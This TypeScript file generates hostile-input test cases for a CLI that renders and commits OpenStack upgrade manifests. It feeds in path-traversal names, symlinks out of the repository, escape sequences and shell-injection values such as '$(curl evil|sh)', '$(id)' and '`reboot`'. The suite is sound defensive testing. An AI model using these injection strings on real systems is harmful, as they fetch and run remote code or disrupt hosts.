/**
 * The hostile-input cases (issue 9), generated from the fixtures: each copies a fixture's inputs and
 * a user's repository into a sandbox, mutates them or picks a hostile flag, and says what must
 * happen. The expectations live in one table, EXPECTATIONS, so that the accepted error codes can be
 * tightened in one place once the fixes settle on them.
 *
 * Exit codes by contract (src/errors.ts): 0 done, 1 refused (policy, Git, the file system said no),
 * 2 bad input or usage. Every case, whatever its outcome, must also: print no `internal error`,
 * print no raw control byte, change nothing outside what the outcome allows, and leave the
 * repository (refs, index, work tree, .git config/hooks/HEAD) and its remote as they were when it
 * fails.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, posix } from 'node:path';
import { parseAllDocuments, stringify } from 'yaml';
import { TEST_DATE } from '../helpers/git-repo.js';
import { DEPLOYMENTS_DIR, fixtureExpect, fixtureNames, git, USER_OSV, USER_OSV_PATH, userGit, type Sandbox } from './sandbox.js';

// ---------------------------------------------------------------------------------------------
// the expectation table

export interface Expectation {
  /** Accepted exit codes (0 only where success is a correct answer too). */
  readonly exit: readonly number[];
  /** Accepted error codes when the exit is not 0: any one of them. */
  readonly codes: readonly string[];
  readonly why: string;
}

const input = (why: string, ...codes: string[]): Expectation => ({ exit: [2], codes, why });
const refusal = (why: string, ...codes: string[]): Expectation => ({ exit: [1], codes, why });

/**
 * What each kind of hostile input must give. Codes marked "new" are the ones the fixes introduce
 * (VERSION_INVALID, NAME_INVALID, IMAGE_INVALID, URL_INVALID, PHASE_INVALID, DATE_INVALID,
 * PLAN_TAMPERED, OUTPUT_INVALID, PATH_UNSAFE, GIT_REMOTE_INVALID: exit 2; GIT_HOOK_REJECTED,
 * GIT_PUSH_REFUSED, GIT_LOCKED, WRITE_FAILED: exit 1).
 */
export const EXPECTATIONS = {
  ok: { exit: [0], codes: [], why: 'a valid input: the command does its job and writes only where it owns' },
  // the OpenStackVersion carries the target too (availableVersion, the defaults' keys): refusing that file first is as good
  versionInvalid: input('a release version is an opaque string with a grammar: no "/", whitespace or control bytes, at most 64 characters', 'VERSION_INVALID', 'INPUT_INVALID', 'OSV_INVALID'),
  csvVersionInvalid: input("the CSV's OPENSTACK_RELEASE_VERSION is checked against the grammar when the CSV is read, before any policy", 'VERSION_INVALID', 'INPUT_INVALID', 'CSV_CONFLICT'),
  planEdited: input('a hand-edited --plan: its id is no longer the hash of its content (or its content is invalid)', 'PLAN_TAMPERED', 'PLAN_INVALID', 'VERSION_INVALID'),
  planMalformed: input('a --plan that is not a whole plan is refused as a plan error, never a crash', 'PLAN_INVALID', 'PLAN_TAMPERED'),
  nameInvalid: input('Kubernetes names are RFC 1123 (labels for namespaces, nodesets at most 63)', 'NAME_INVALID', 'NODESET_INVALID', 'OSV_INVALID', 'CONTROLPLANE_INVALID', 'INPUT_INVALID'),
  nodesetUnknown: input('a batch names a nodeset that is not in the inputs', 'NODESET_UNKNOWN', 'NAME_INVALID', 'USAGE'),
  pathUnsafe: input('the owned folder must be inside the repository, never its root, .git or through a link', 'PATH_UNSAFE', 'USAGE'),
  outputInvalid: input('an output that is not a folder we may write (a file, .git, a link out)', 'OUTPUT_INVALID', 'PATH_UNSAFE', 'USAGE'),
  outputMissingParent: { exit: [1, 2], codes: ['OUTPUT_INVALID', 'PATH_UNSAFE', 'INPUT_NOT_FOUND', 'WRITE_FAILED', 'USAGE'], why: 'the output file\'s folder does not exist: a clear error (bad argument or write failure), no stack' },
  versionFileUnsafe: input('--version-file must be a regular file inside the repository, not a link out', 'PATH_UNSAFE', 'VERSION_FILE_INVALID', 'VERSION_FILE_NOT_FOUND', 'USAGE'),
  versionFileTooLarge: input('--version-file has the same size limit as every input', 'INPUT_TOO_LARGE', 'VERSION_FILE_INVALID'),
  secret: refusal('a credential in the inputs is refused, naming the file and path, never the value', 'SECRET_REFUSED'),
  urlInvalid: input('URLs have a grammar: no control bytes, no credentials, known schemes', 'URL_INVALID', 'USAGE', 'SECRET_REFUSED'),
  imageInvalid: input('image values follow the distribution reference grammar', 'IMAGE_INVALID', 'CSV_CONFLICT', 'CUSTOM_IMAGES_INVALID', 'OSV_INVALID', 'INPUT_INVALID'),
  csvConflict: input('a CSV that says two things (two release versions, one image twice) is refused', 'CSV_CONFLICT', 'INPUT_INVALID', 'VERSION_INVALID'),
  apiVersion: input('an object of a wrong apiVersion is not the object we know', 'INPUT_INVALID', 'OSV_INVALID', 'NODESET_INVALID', 'CONTROLPLANE_INVALID', 'CSV_NO_OPERATOR_DEPLOYMENT', 'CUSTOM_IMAGES_INVALID'),
  phaseInvalid: input('--phase is a phase number of the plan', 'PHASE_INVALID', 'USAGE'),
  dateInvalid: input('--date is an ISO date', 'DATE_INVALID', 'USAGE'),
  statusDate: { exit: [0, 2], codes: ['DATE_INVALID', 'INPUT_INVALID', 'OSV_INVALID', 'STATUS_NOT_FOUND'], why: 'a condition time that is not a date: refused as bad input, or read as no time at all; never a stack trace' },
  usage: input('a bad flag value', 'USAGE', 'PHASE_INVALID', 'NAME_INVALID', 'IMAGE_INVALID'),
  inputUnreadable: input('an input that is not a regular file', 'INPUT_NOT_FOUND', 'INPUT_INVALID', 'PATH_UNSAFE', 'NODESET_INVALID'),
  symlinkedInput: input('a symlinked nodeset file is refused, never silently skipped (the nodeset would vanish from the plan)', 'NODESET_INVALID', 'PATH_UNSAFE', 'INPUT_INVALID', 'INPUT_NOT_FOUND'),
  tooLarge: input('every input has a size limit', 'INPUT_TOO_LARGE'),
  dirty: refusal('uncommitted changes in a path we write: refuse before anything moves (no branch switch, no branch made)', 'GIT_DIRTY'),
  locked: { exit: [1], codes: ['GIT_LOCKED'], why: 'another Git holds .git/index.lock: refuse before the branch moves, never leave files behind' },
  stagedByUser: { exit: [0], codes: [], why: 'what the user staged is theirs: never in our commit, and still staged afterwards' },
  hookRejected: refusal("the user's hooks run by default; a refusal leaves nothing committed", 'GIT_HOOK_REJECTED'),
  pushRefused: refusal('the remote refused the push (policy): say so, and keep the local branch as it was', 'GIT_PUSH_REFUSED', 'GIT_HOOK_REJECTED'),
  remoteMissing: { exit: [1, 2], codes: ['GIT_REMOTE_INVALID', 'GIT_PUSH_REFUSED', 'USAGE'], why: 'a remote that does not exist: refuse before committing' },
  readOnly: { exit: [1, 2], codes: ['WRITE_FAILED', 'OUTPUT_INVALID', 'PATH_UNSAFE', 'GIT_FAILED', 'GIT_LOCKED'], why: 'a folder we cannot write: a clear error, nothing half-written' },
  fixtureFailure: { exit: [1, 2], codes: [], why: "a failing fixture: its own case.yaml's exit and code, and nothing written" },
} as const satisfies Record<string, Expectation>;

export type ExpectKey = keyof typeof EXPECTATIONS;

// ---------------------------------------------------------------------------------------------
// cases

export interface CaseRun {
  readonly argv: readonly string[];
  /** Environment for this run only (in-process: set and restored around it). */
  readonly env?: Readonly<Record<string, string>>;
  /** Run a real process: as the `nobody` user (to meet read-only folders as root), with a time limit. */
  readonly spawn?: { readonly asNobody?: boolean; readonly timeoutMs?: number };
}

export interface SecretCheck {
  readonly value: string;
  /** Sandbox-relative files where the user keeps the value themselves (not our doing). */
  readonly userFiles?: readonly string[];
  /** The user put it in their own object store (`git add`); only the remote is checked. */
  readonly userStaged?: boolean;
}

export interface HostileCase {
  readonly id: string;
  /** The item of issue 9 it reproduces (1-8), or `own`/`control`/`fixture`. */
  readonly item: string;
  readonly fixture: string;
  readonly expect: Expectation;
  /** For an exit-0 outcome: sandbox-relative paths that may change, `refs` when branches may move. */
  readonly mayChange?: readonly string[];
  /** For a fixture case: the exact code its case.yaml names. */
  readonly exactCode?: string;
  readonly secret?: SecretCheck;
  /** Mutate the sandbox and say how to run. */
  readonly setup: (sb: Sandbox) => CaseRun;
}

const DATE = TEST_DATE;
export const EXAMPLE = 'example';
const TARGET = '18.0.4-1764633600';
const REPO_URL = 'https://git.example.com/ops.git';

type Cmd = 'plan' | 'render' | 'renderArgo' | 'commit' | 'commitAll' | 'bpp' | 'versionFile';

/** The argv of a command over the sandbox's inputs (paths relative to the sandbox folder). */
function argv(cmd: Cmd, sb: Sandbox, extra: readonly string[] = [], inputs: readonly string[] = sb.inputArgs): string[] {
  switch (cmd) {
    case 'plan':
      return ['plan', ...inputs, '--json', ...extra];
    case 'render':
      return ['render', ...inputs, '--out', 'out', '--json', ...extra];
    case 'renderArgo':
      return ['render', ...inputs, '--engine', 'argocd', '--repo-url', REPO_URL, '--out', 'out', '--json', ...extra];
    case 'commit':
      return ['commit', ...inputs, '--repo', 'repo', '--date', DATE, '--json', ...extra];
    case 'commitAll':
      return ['commit', ...inputs, '--repo', 'repo', '--all', '--push', '--date', DATE, '--json', ...extra];
    case 'bpp':
      return ['commit', ...inputs, '--repo', 'repo', '--branch-per-phase', '--all', '--pr-dir', 'prs', '--push', '--date', DATE, '--json', ...extra];
    case 'versionFile':
      return ['commit', ...inputs, '--repo', 'repo', '--version-file', USER_OSV_PATH, '--deployments-dir', DEPLOYMENTS_DIR, '--all', '--push', '--date', DATE, '--json', ...extra];
  }
}

/** What a successful run of a command may change. */
const OWNS: Record<Cmd, readonly string[]> = {
  plan: [],
  render: ['out'],
  renderArgo: ['out'],
  commit: ['repo/openstack-update', 'refs'],
  commitAll: ['repo/openstack-update', 'refs'],
  bpp: ['prs', 'refs'],
  versionFile: ['repo/clusters/prod', 'refs'],
};

// ---------------------------------------------------------------------------------------------
// input mutations

type Obj = Record<string, unknown>;

function isObj(v: unknown): v is Obj {
  return typeof v === 'object' && v !== null && !Array.isArray(v);
}

function obj(parent: Obj, key: string): Obj {
  const v = parent[key];
  if (isObj(v)) return v;
  const made: Obj = {};
  parent[key] = made;
  return made;
}

function list(parent: Obj, key: string): unknown[] {
  const v = parent[key];
  if (!Array.isArray(v)) throw new Error(`case generator: ${key} is not a list`);
  return v;
}

/** Parse every document of a YAML file, edit them, write them back. */
function editDocs(file: string, edit: (docs: Obj[]) => void): void {
  const docs = parseAllDocuments(readFileSync(file, 'utf8')).map((d) => d.toJS() as unknown);
  const objs = docs.filter(isObj);
  edit(objs);
  writeFileSync(file, objs.map((d) => stringify(d, { lineWidth: 0 })).join('---\n'));
}

function editDoc(file: string, edit: (doc: Obj) => void): void {
  editDocs(file, (docs) => edit(docs[0]!));
}

/** The env list of the CSV container that carries OPENSTACK_RELEASE_VERSION. */
function operatorEnv(csv: Obj): Obj[] {
  for (const d of list(obj(obj(obj(csv, 'spec'), 'install'), 'spec'), 'deployments').filter(isObj)) {
    for (const c of list(obj(obj(obj(d, 'spec'), 'template'), 'spec'), 'containers').filter(isObj)) {
      const env = c['env'];
      if (Array.isArray(env) && env.some((e) => isObj(e) && e['name'] === 'OPENSTACK_RELEASE_VERSION')) return env as Obj[];
    }
  }
  throw new Error('case generator: no OPENSTACK_RELEASE_VERSION in the CSV');
}

const inputFile = (sb: Sandbox, name: string) => join(sb.inputs, name);

function editCsvEnv(sb: Sandbox, edit: (env: Obj[]) => void): void {
  editDoc(inputFile(sb, 'csv.yaml'), (csv) => edit(operatorEnv(csv)));
}

/** Replace the target version everywhere it is written (CSV and OpenStackVersion), so that only its grammar can stop it. */
function retarget(sb: Sandbox, version: string): void {
  for (const f of ['csv.yaml', 'openstackversion.yaml']) {
    const file = inputFile(sb, f);
    // a JSON string is a valid YAML double-quoted scalar, as a value and as a key
    writeFileSync(file, readFileSync(file, 'utf8').split(TARGET).join(JSON.stringify(version)));
  }
}

function nodesetFile(sb: Sandbox, name = 'compute-a'): string {
  return join(sb.inputs, 'nodesets', `${name}.yaml`);
}

function editPlan(sb: Sandbox, edit: (plan: Obj) => void): void {
  const file = join(sb.dir, 'plan.json');
  const plan = JSON.parse(readFileSync(file, 'utf8')) as Obj;
  edit(plan);
  writeFileSync(file, JSON.stringify(plan, null, 2) + '\n');
}

/** The inputs a saved plan still needs (the manifests it carries). */
function planInputs(sb: Sandbox): string[] {
  return ['--plan', 'plan.json', ...sb.inputArgs.filter((_, i, a) => ['--controlplane', '--nodesets'].includes(a[i] ?? '') || ['--controlplane', '--nodesets'].includes(a[i - 1] ?? ''))];
}

function writeRepoFile(sb: Sandbox, rel: string, content: string): void {
  mkdirSync(join(sb.repo, posix.dirname(rel)), { recursive: true });
  writeFileSync(join(sb.repo, rel), content);
}

function commitInRepo(sb: Sandbox, message: string, ...paths: string[]): void {
  userGit(sb.repo, 'add', '--', ...paths);
  userGit(sb.repo, 'commit', '--quiet', '-m', message);
  git(sb.repo, 'push', '--quiet', 'origin', 'main');
}

function hook(dir: string, name: string, body: string): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, name), `#!/bin/sh\n${body}\n`);
  chmodSync(join(dir, name), 0o755);
}

/** Let the `nobody` user traverse the sandbox and read its inputs (it writes nothing it does not own). */
function openForNobody(sb: Sandbox): Record<string, string> {
  let p = sb.root;
  chmodSync(p, 0o755);
  for (const part of posix.relative(sb.root, sb.dir).split('/')) {
    p = join(p, part);
    chmodSync(p, 0o755);
  }
  const cfg = join(sb.dir, 'nobody.gitconfig');
  writeFileSync(cfg, '[safe]\n\tdirectory = *\n');
  return { GIT_CONFIG_GLOBAL: cfg, HOME: sb.dir };
}

// ---------------------------------------------------------------------------------------------
// the generator

const cases: HostileCase[] = [];

function add(c: HostileCase): void {
  if (cases.some((x) => x.id === c.id)) throw new Error(`duplicate case id ${c.id}`);
  cases.push(c);
}

/** One case per command: the same mutation, each command's own argv and owned paths. */
function perCommand(base: { id: string; item: string; expect: Expectation; fixture?: string; secret?: SecretCheck; mutate?: (sb: Sandbox) => void; extra?: readonly string[]; env?: Record<string, string> }, cmds: readonly Cmd[]): void {
  for (const cmd of cmds) {
    add({
      id: `${base.id} [${cmd}]`,
      item: base.item,
      fixture: base.fixture ?? EXAMPLE,
      expect: base.expect,
      mayChange: OWNS[cmd],
      ...(base.secret ? { secret: base.secret } : {}),
      setup: (sb) => {
        base.mutate?.(sb);
        return { argv: argv(cmd, sb, base.extra), ...(base.env ? { env: base.env } : {}) };
      },
    });
  }
}

const E = EXPECTATIONS;
const ALL_WRITERS: readonly Cmd[] = ['render', 'commit', 'commitAll', 'bpp'];

// --- controls: the untouched example must pass every command (proves the harness allows real work)
perCommand({ id: 'control: the example as it is', item: 'control', expect: E.ok }, ['plan', 'render', 'renderArgo', 'commit', 'commitAll', 'bpp', 'versionFile']);
perCommand({ id: 'control: batches-canary as it is', item: 'control', fixture: 'batches-canary', expect: E.ok }, ['commitAll']);

// --- item 1: versions that escape, from the CSV, from a saved plan, from --target
const ESCAPE_VERSION = '18.0.4-/../../../outside';
perCommand({ id: `1 CSV OPENSTACK_RELEASE_VERSION ${ESCAPE_VERSION}`, item: '1', expect: E.versionInvalid, mutate: (sb) => retarget(sb, ESCAPE_VERSION) }, ['plan', ...ALL_WRITERS]);
perCommand({ id: `1 CSV OPENSTACK_RELEASE_VERSION ${ESCAPE_VERSION}, glance-hotfix`, item: '1', fixture: 'glance-hotfix', expect: E.versionInvalid, mutate: (sb) => retarget(sb, ESCAPE_VERSION) }, ['render']);
for (const cmd of ['render', 'commit', 'commitAll', 'bpp'] as const) {
  add({
    id: `1 --plan with versions.target ${ESCAPE_VERSION} [${cmd}]`,
    item: '1',
    fixture: EXAMPLE,
    expect: E.planEdited,
    mayChange: OWNS[cmd],
    setup: (sb) => {
      editPlan(sb, (p) => (obj(p, 'versions')['target'] = ESCAPE_VERSION));
      return { argv: argv(cmd, sb, [], planInputs(sb)) };
    },
  });
}
add({
  id: `1 CSV alone says OPENSTACK_RELEASE_VERSION ${ESCAPE_VERSION} [plan]`,
  item: '1',
  fixture: EXAMPLE,
  expect: E.csvVersionInvalid,
  setup: (sb) => {
    editCsvEnv(sb, (env) => (env.find((e) => e['name'] === 'OPENSTACK_RELEASE_VERSION')!['value'] = ESCAPE_VERSION));
    return { argv: argv('plan', sb) };
  },
});
add({
  id: '5 CSV alone says OPENSTACK_RELEASE_VERSION with a trailing space [commitAll]',
  item: '5',
  fixture: EXAMPLE,
  expect: E.csvVersionInvalid,
  setup: (sb) => {
    editCsvEnv(sb, (env) => (env.find((e) => e['name'] === 'OPENSTACK_RELEASE_VERSION')!['value'] = `${TARGET} `));
    return { argv: argv('commitAll', sb) };
  },
});
perCommand({ id: '1 --target 18.0.4-/../x', item: '1', expect: E.versionInvalid, extra: ['--target', '18.0.4-/../x'] }, ['plan', 'render', 'commitAll']);
perCommand({ id: '1 deployed version (spec.targetVersion) 18.0.3-/../x', item: '1', expect: E.versionInvalid, mutate: (sb) => editDoc(inputFile(sb, 'openstackversion.yaml'), (d) => (obj(d, 'spec')['targetVersion'] = '18.0.3-/../x')) }, ['plan', 'commitAll']);

// --- item 5: versions Git would trim, and other strings that are not versions
const BAD_VERSIONS: Readonly<Record<string, string>> = {
  'trailing spaces': `${TARGET}  `,
  'trailing newline': `${TARGET}\n`,
  'leading space': ` ${TARGET}`,
  'inner tab': `18.0.4-\t1764633600`,
  'escape sequence': `18.0.4-\u001b[2J1764633600`,
  'a slash': '18.0.4-1764633600/x',
  'dot-dot': '..',
  'shell': '18.0.4-$(id)',
  'too long (300)': `18.0.4-${'9'.repeat(293)}`,
  'fullwidth digits': '\uff11\uff18.0.4-1764633600',
};
for (const [name, v] of Object.entries(BAD_VERSIONS)) {
  // the ones Git trims are also committed and pushed: a second run must not push every phase again
  const cmds: readonly Cmd[] = name.startsWith('trailing') ? ['plan', 'commitAll'] : ['plan'];
  perCommand({ id: `5 release version with ${name}`, item: '5', expect: E.versionInvalid, mutate: (sb) => retarget(sb, v) }, cmds);
}
perCommand({ id: '5 --target with a trailing space', item: '5', expect: E.versionInvalid, extra: ['--target', `${TARGET} `] }, ['commitAll']);

// --- item 8: the CSV says two things
perCommand({ id: '8 two OPENSTACK_RELEASE_VERSION entries', item: '8', expect: E.csvConflict, mutate: (sb) => editCsvEnv(sb, (env) => env.push({ name: 'OPENSTACK_RELEASE_VERSION', value: '18.0.9-1' })) }, ['plan', 'commitAll']);
perCommand({
  id: '8 duplicate RELATED_IMAGE_* entries',
  item: '8',
  expect: E.csvConflict,
  mutate: (sb) =>
    editCsvEnv(sb, (env) => {
      const img = env.find((e) => typeof e['name'] === 'string' && /^RELATED_IMAGE_.*_URL_DEFAULT$/.test(e['name']));
      if (!img) throw new Error('case generator: no RELATED_IMAGE_*_URL_DEFAULT');
      env.push({ name: img['name'], value: 'quay.io/evil/other@sha256:' + 'e'.repeat(64) });
    }),
}, ['plan', 'commitAll']);
const BAD_IMAGES: Readonly<Record<string, string>> = {
  'a command substitution': '$(curl evil|sh)',
  'a short digest': 'quay.io/x/y@sha256:abc',
  'a newline': 'quay.io/x/y:1\nkind: Secret',
  'upper-case path': 'quay.io/Evil/Thing:1',
  'a space': 'quay.io/x/y: 1',
};
for (const [name, v] of Object.entries(BAD_IMAGES)) {
  perCommand({
    id: `8 CSV image value with ${name}`,
    item: '8',
    expect: E.imageInvalid,
    mutate: (sb) =>
      editCsvEnv(sb, (env) => {
        const img = env.find((e) => typeof e['name'] === 'string' && /^RELATED_IMAGE_.*_URL_DEFAULT$/.test(e['name']));
        if (!img) throw new Error('case generator: no RELATED_IMAGE_*_URL_DEFAULT');
        img['value'] = v;
      }),
  }, name === 'a command substitution' ? ['plan', 'commitAll'] : ['plan']);
}
add({
  id: '8 --custom-images with a command substitution',
  item: '8',
  fixture: 'glance-hotfix',
  expect: E.imageInvalid,
  setup: (sb) => {
    writeFileSync(inputFile(sb, 'custom-images.yaml'), 'glanceAPIImage: "$(curl evil|sh)"\n');
    return { argv: argv('plan', sb) };
  },
});
add({
  id: '8 OpenStackVersion customContainerImages with a command substitution',
  item: '8',
  fixture: EXAMPLE,
  expect: E.imageInvalid,
  mayChange: OWNS.commitAll,
  setup: (sb) => {
    editDoc(inputFile(sb, 'openstackversion.yaml'), (d) => (obj(obj(d, 'spec'), 'customContainerImages')['novaAPIImage'] = '`reboot`'));
    return { argv: argv('commitAll', sb, ['--skip-custom-images-validation']) };
  },
});
const WRONG_API: Readonly<Record<string, [string, string]>> = {
  CSV: ['csv.yaml', 'operators.coreos.com/v9'],
  OpenStackVersion: ['openstackversion.yaml', 'core.openstack.org/v9'],
  OpenStackControlPlane: ['controlplane.yaml', 'core.openstack.org/v9'],
  nodeset: ['nodesets/compute-a.yaml', 'dataplane.openstack.org/v9'],
};
for (const [what, [file, api]] of Object.entries(WRONG_API)) {
  perCommand({ id: `8 wrong apiVersion ${api} on the ${what}`, item: '8', expect: E.apiVersion, mutate: (sb) => editDoc(inputFile(sb, file), (d) => (d['apiVersion'] = api)) }, ['plan']);
}

// --- item 1: names that escape or are not names, for every kind of object
const BAD_NAMES: Readonly<Record<string, string>> = {
  'escaping ../../../../../../outside/pwn-ns': '../../../../../../outside/pwn-ns',
  'upper case and underscore Compute_A': 'Compute_A',
  'a Cyrillic homoglyph': 'compute-\u0430',
  'a space and a bang': 'Bad NS!',
  'a leading dash': '-compute',
  'two dots': 'a..b',
  'an escape sequence': 'comp\u001b[2Jute',
  'a trailing newline': 'compute-a\n',
  'an empty string': '',
};
type NameKind = 'nodeset' | 'stack' | 'namespace';
/** Set the name of one kind of object in the inputs (the OpenStackVersion and control plane share theirs). */
function rename(sb: Sandbox, kind: NameKind, name: string): void {
  if (kind === 'nodeset') editDoc(nodesetFile(sb), (d) => (obj(d, 'metadata')['name'] = name));
  if (kind === 'stack') {
    editDoc(inputFile(sb, 'openstackversion.yaml'), (d) => {
      obj(d, 'metadata')['name'] = name;
      delete obj(d, 'metadata')['ownerReferences'];
    });
    editDoc(inputFile(sb, 'controlplane.yaml'), (d) => (obj(d, 'metadata')['name'] = name));
  }
  if (kind === 'namespace') {
    for (const f of ['openstackversion.yaml', 'controlplane.yaml', 'nodesets/compute-a.yaml', 'nodesets/compute-b.yaml']) {
      editDoc(inputFile(sb, f), (d) => (obj(d, 'metadata')['namespace'] = name));
    }
  }
}
for (const kind of ['nodeset', 'stack', 'namespace'] as const) {
  for (const [label, name] of Object.entries(BAD_NAMES)) {
    const cmds: readonly Cmd[] = label.startsWith('escaping') ? ['render', 'commitAll'] : ['commitAll'];
    perCommand({ id: `1 ${kind} name with ${label}`, item: '1', expect: E.nameInvalid, mutate: (sb) => rename(sb, kind, name) }, cmds);
  }
}
// long names: 240 characters are a valid object name (subdomain ≤ 253) but not a nodeset (≤ 63) or namespace (label ≤ 63)
perCommand({ id: '6 nodeset name of 240 characters', item: '6', expect: E.nameInvalid, mutate: (sb) => rename(sb, 'nodeset', 'n'.repeat(240)) }, ['render', 'commitAll']);
perCommand({ id: '6 namespace of 64 characters', item: '6', expect: E.nameInvalid, mutate: (sb) => rename(sb, 'namespace', 'n'.repeat(64)) }, ['commitAll']);
perCommand({ id: '6 OpenStackVersion and control plane named with 240 characters (valid: file names must be bounded)', item: '6', expect: E.ok, mutate: (sb) => rename(sb, 'stack', 's'.repeat(240)) }, ['render', 'commitAll', 'bpp']);
perCommand({ id: 'control: nodeset name of 63 characters', item: 'control', expect: E.ok, mutate: (sb) => rename(sb, 'nodeset', 'n'.repeat(63)) }, ['render', 'commitAll']);
perCommand({ id: '1 OpenStackVersion name escaping, control plane unchanged', item: '1', expect: E.nameInvalid, mutate: (sb) => editDoc(inputFile(sb, 'openstackversion.yaml'), (d) => (obj(d, 'metadata')['name'] = '../../outside/pwn')) }, ['render']);
const BAD_NS_FLAGS: Readonly<Record<string, string>> = {
  "Bad_NS/../x": 'Bad_NS/../x',
  'escaping ../../outside': '../../outside',
  'Bad NS!': 'Bad NS!',
  '64 characters': 'x'.repeat(64),
  'a newline': 'openstack\nkind: Secret',
  'an escape sequence': '\u001b[31mred',
};
for (const [label, v] of Object.entries(BAD_NS_FLAGS)) {
  perCommand({ id: `1 --namespace ${label}`, item: '1', expect: E.nameInvalid, extra: ['--namespace', v] }, label === 'Bad_NS/../x' ? ['plan', 'render', 'commitAll'] : ['commitAll']);
}
perCommand({ id: 'own --name-prefix escaping ../../../outside/p', item: 'own', expect: E.nameInvalid, extra: ['--name-prefix', '../../../outside/p'] }, ['render', 'commitAll']);
perCommand({ id: 'own --name-prefix EDPM_X', item: 'own', expect: E.nameInvalid, extra: ['--name-prefix', 'EDPM_X'] }, ['commitAll']);
perCommand({ id: 'own --batch naming ../x', item: 'own', expect: E.nodesetUnknown, extra: ['--batch', '../x'] }, ['commitAll']);

// --- item 2: flags that would destroy the repository
const BAD_PATHS: Readonly<Record<string, (sb: Sandbox) => string>> = {
  '.': () => '.',
  './': () => './',
  '.git': () => '.git',
  '.GIT (case-insensitive filesystems)': () => '.GIT',
  '.git/hooks': () => '.git/hooks',
  'sub/../.git/hooks': () => 'sub/../.git/hooks',
  '..': () => '..',
  '../outside': () => '../outside',
  'openstack-update/../../outside': () => 'openstack-update/../../outside',
  'absolute, outside the repository': (sb) => sb.outside,
  'absolute, inside the repository': (sb) => join(sb.repo, 'openstack-update'),
  'an existing file (README.md)': () => 'README.md',
  'a control byte': () => 'update\u0007s',
  'empty': () => '',
};
for (const [label, path] of Object.entries(BAD_PATHS)) {
  add({
    id: `2 commit --all --path ${label}`,
    item: '2',
    fixture: EXAMPLE,
    expect: E.pathUnsafe,
    setup: (sb) => ({ argv: argv('commitAll', sb, ['--path', path(sb)]) }),
  });
}
add({
  id: '2 commit --path through a committed symlink to outside/',
  item: '2',
  fixture: EXAMPLE,
  expect: E.pathUnsafe,
  setup: (sb) => {
    symlinkSync('../outside', join(sb.repo, 'linked'));
    commitInRepo(sb, 'a link', 'linked');
    return { argv: argv('commitAll', sb, ['--path', 'linked']) };
  },
});
add({
  id: '2 commit --path .git with --branch-per-phase',
  item: '2',
  fixture: EXAMPLE,
  expect: E.pathUnsafe,
  setup: (sb) => ({ argv: argv('bpp', sb, ['--path', '.git']) }),
});
const BAD_DEPLOYMENT_DIRS: Readonly<Record<string, (sb: Sandbox) => string>> = {
  '.git': () => '.git',
  '.': () => '.',
  '.git/hooks': () => '.git/hooks',
  '../outside': () => '../outside',
  'absolute, outside the repository': (sb) => sb.outside,
};
for (const [label, dir] of Object.entries(BAD_DEPLOYMENT_DIRS)) {
  add({
    id: `2 commit --version-file --deployments-dir ${label}`,
    item: '2',
    fixture: EXAMPLE,
    expect: E.pathUnsafe,
    setup: (sb) => ({ argv: ['commit', ...sb.inputArgs, '--repo', 'repo', '--version-file', USER_OSV_PATH, '--deployments-dir', dir(sb), '--all', '--push', '--date', DATE, '--json'] }),
  });
}

// --- item 1: a --version-file that leads out of the repository
const vfArgv = (sb: Sandbox, file: string, extra: readonly string[] = []) => ['commit', ...sb.inputArgs, '--repo', 'repo', '--version-file', file, '--deployments-dir', DEPLOYMENTS_DIR, '--all', '--push', '--date', DATE, '--json', ...extra];
add({
  id: '1 --version-file is a committed symlink to a file outside the repository',
  item: '1',
  fixture: EXAMPLE,
  expect: E.versionFileUnsafe,
  setup: (sb) => {
    symlinkSync('../../../outside/osv.yaml', join(sb.repo, 'clusters', 'prod', 'osv-link.yaml'));
    commitInRepo(sb, 'link', 'clusters/prod/osv-link.yaml');
    return { argv: vfArgv(sb, 'clusters/prod/osv-link.yaml') };
  },
});
add({
  id: '1 --version-file symlink to outside, with --branch-per-phase',
  item: '1',
  fixture: EXAMPLE,
  expect: E.versionFileUnsafe,
  setup: (sb) => {
    symlinkSync('../../../outside/osv.yaml', join(sb.repo, 'clusters', 'prod', 'osv-link.yaml'));
    commitInRepo(sb, 'link', 'clusters/prod/osv-link.yaml');
    return { argv: [...vfArgv(sb, 'clusters/prod/osv-link.yaml'), '--branch-per-phase'] };
  },
});
add({
  id: '1 --version-file inside a committed symlinked folder',
  item: '1',
  fixture: EXAMPLE,
  expect: E.versionFileUnsafe,
  setup: (sb) => {
    symlinkSync('../outside', join(sb.repo, 'ext'));
    commitInRepo(sb, 'link', 'ext');
    return { argv: vfArgv(sb, 'ext/osv.yaml') };
  },
});
const BAD_VERSION_FILES: Readonly<Record<string, (sb: Sandbox) => string>> = {
  '../outside/osv.yaml': () => '../outside/osv.yaml',
  'absolute, outside the repository': (sb) => join(sb.outside, 'osv.yaml'),
  '.git/config': () => '.git/config',
  'a folder': () => 'clusters/prod',
};
for (const [label, file] of Object.entries(BAD_VERSION_FILES)) {
  add({ id: `1 --version-file ${label}`, item: '1', fixture: EXAMPLE, expect: E.versionFileUnsafe, setup: (sb) => ({ argv: vfArgv(sb, file(sb)) }) });
}
add({
  id: '8 oversized --version-file (limit lowered to 60000 bytes)',
  item: '8',
  fixture: EXAMPLE,
  expect: E.versionFileTooLarge,
  setup: (sb) => {
    writeRepoFile(sb, USER_OSV_PATH, USER_OSV + `# ${'x'.repeat(120_000)}\n`);
    commitInRepo(sb, 'big', USER_OSV_PATH);
    return { argv: vfArgv(sb, USER_OSV_PATH), env: { OSV_GITOPS_MAX_INPUT_BYTES: '60000' } };
  },
});
add({
  id: '8 oversized CSV (limit lowered to 20000 bytes)',
  item: '8',
  fixture: EXAMPLE,
  expect: E.tooLarge,
  setup: (sb) => ({ argv: argv('commitAll', sb), env: { OSV_GITOPS_MAX_INPUT_BYTES: '20000' } }),
});

// --- item 6: outputs that are not folders we may write
add({ id: '6 render --out is a regular file', item: '6', fixture: EXAMPLE, expect: E.outputInvalid, setup: (sb) => ({ argv: ['render', ...sb.inputArgs, '--out', 'out/mine.txt', '--json'] }) });
add({ id: '6 render --out below a regular file', item: '6', fixture: EXAMPLE, expect: E.outputInvalid, setup: (sb) => ({ argv: ['render', ...sb.inputArgs, '--out', 'out/mine.txt/deeper', '--json'] }) });
add({ id: 'own render --out repo/.git', item: 'own', fixture: EXAMPLE, expect: E.outputInvalid, setup: (sb) => ({ argv: ['render', ...sb.inputArgs, '--out', 'repo/.git', '--json'] }) });
